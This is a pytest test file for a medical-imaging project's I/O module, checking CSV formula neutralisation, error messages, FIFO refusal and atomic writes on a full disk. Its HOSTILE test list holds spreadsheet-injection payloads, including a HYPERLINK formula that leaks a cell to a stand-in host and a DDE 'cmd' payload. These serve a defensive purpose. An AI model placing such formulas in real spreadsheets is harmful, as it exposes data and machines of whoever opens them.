"""fibrosis.io: the one CSV writer (cells a spreadsheet would run are neutralised), readers that
name the file and line, regular files only, and atomic writes that leave nothing on a full disk."""
from __future__ import annotations

import csv
import os
from pathlib import Path

import numpy as np
import pytest

from fibrosis.io import (FORMULA_START, CsvFormatError, NoSpaceError, NotRegularFileError, atomic_write_bytes,
                         csv_cell, csv_value, iter_csv, open_regular, read_csv, read_text, save_npy, write_csv,
                         write_json)
from fibrosis.io import tmp_path as temporary_name
from helpers.processes import deadline

# Formulas seen in DICOM header values and labels CSV cells, and OWASP's other starts.
HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1)', "=cmd|' /C calc'!A0", "=1+2", "@CMD", "-2+3", "+A1-1",
           "\t=1+2", "\r=1+2", "'already quoted", "-", "+", "=", "@"]
PLAIN = ["-0.5", "+4", "1e-3", "-1.5E+10", "0", "", "PA", "TestVendor", "/data/=x.png", "a=b"]


def _raw_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_as_written(tmp_path):
    out = tmp_path / "x.csv"
    rows = [{"value": v, "n": i} for i, v in enumerate(HOSTILE + PLAIN)]
    assert write_csv(out, rows, ("value", "n")) == len(rows)
    raw = _raw_cells(out)
    assert not [c for c in raw if c.startswith(FORMULA_START) and c not in PLAIN]  # nothing runs
    assert {c for c in raw[2::2][:len(HOSTILE)]} == {"'" + v for v in HOSTILE}
    assert raw[2::2][len(HOSTILE):] == PLAIN  # numbers (negative ones too) and text stay as they are
    assert [r["value"] for r in read_csv(out)] == HOSTILE + PLAIN  # our readers undo it exactly
    assert all(csv_value(csv_cell(v)) == v for v in HOSTILE + PLAIN)


def test_a_user_csv_is_read_as_it_is(tmp_path):
    f = tmp_path / "list.csv"
    f.write_text("path\n'x.dcm\n")
    assert [r["path"] for r in iter_csv(f, decode=False)] == ["'x.dcm"]


@pytest.mark.parametrize("where", ["header", "row"])
def test_a_field_over_the_csv_limit_names_the_file_and_line(tmp_path, where):
    f = tmp_path / "big.csv"
    big = "x" * 200_000
    f.write_text(f"path,{big}\na,b\n" if where == "header" else f"path,label\na,1\nb,{big}\nc,0\n")
    with pytest.raises(CsvFormatError, match=rf"big.csv:{1 if where == 'header' else 3}: a field longer than "
                                             r"131072 characters; expected a CSV of short values"):
        read_csv(f)


def test_text_that_is_not_utf8_is_one_line_naming_the_file(tmp_path):
    f = tmp_path / "latin1.csv"
    f.write_bytes("path\nr\xe9sum\xe9.dcm\n".encode("latin-1"))
    with pytest.raises(CsvFormatError, match=r"latin1.csv: not UTF-8 text"):
        read_csv(f)


@pytest.mark.parametrize("mode", ["r", "rb", "a"])
def test_a_fifo_is_refused_without_blocking(tmp_path, mode):
    fifo = tmp_path / "scores.meta.csv"
    os.mkfifo(fifo)
    with deadline(), pytest.raises(NotRegularFileError, match=r"scores.meta.csv: not a regular file: a FIFO"):
        open_regular(fifo, mode)
    for read in (read_csv, read_text):
        with deadline(), pytest.raises(NotRegularFileError):
            read(fifo)
    with pytest.raises(NotRegularFileError, match="a folder"):
        open_regular(tmp_path, "r")


def test_save_npy_writes_what_np_save_writes(tmp_path):
    arr = np.arange(2 * 5 * 7, dtype=np.uint16).reshape(2, 5, 7)
    save_npy(tmp_path / "a.npy", arr)
    np.save(tmp_path / "b.npy", arr)
    assert (tmp_path / "a.npy").read_bytes() == (tmp_path / "b.npy").read_bytes()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full")
@pytest.mark.parametrize("writer", ["csv", "bytes", "json", "npy"])
def test_a_full_disk_is_one_line_naming_the_file_and_leaves_nothing(tmp_path, writer):
    """The temporary file is a link to /dev/full, whose every write fails with ENOSPC: the kernel's
    own disk-full error, on the very write a full file system would refuse."""
    target = tmp_path / "out.bin"
    target.write_bytes(b"the previous version")
    os.symlink("/dev/full", temporary_name(target))
    write = {"csv": lambda: write_csv(target, [{"a": "x" * 100_000}], ("a",)),
             "bytes": lambda: atomic_write_bytes(target, b"x" * 100_000),
             "json": lambda: write_json(target, {"a": "x" * 100_000}),
             "npy": lambda: save_npy(target, np.zeros((64, 64, 64), np.uint8))}[writer]
    with pytest.raises(NoSpaceError, match=rf"^\[Errno 28\] no space left on \S+ \(.* MiB free\) writing {target}; free space"):
        write()
    assert target.read_bytes() == b"the previous version"  # the old file stands, whole
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.bin"]  # no temporary file left


def test_a_carriage_return_inside_a_value_stays_inside_its_record(tmp_path):
    """A file name may hold a CR; the csv writer left it unquoted and readers cut the record there."""
    out = tmp_path / "x.csv"
    write_csv(out, [{"path": "/in/a\rb.dcm", "n": 1}, {"path": "/in/c.dcm", "n": 2}], ("path", "n"))
    assert [(r["path"], r["n"]) for r in read_csv(out)] == [("/in/a\rb.dcm", "1"), ("/in/c.dcm", "2")]
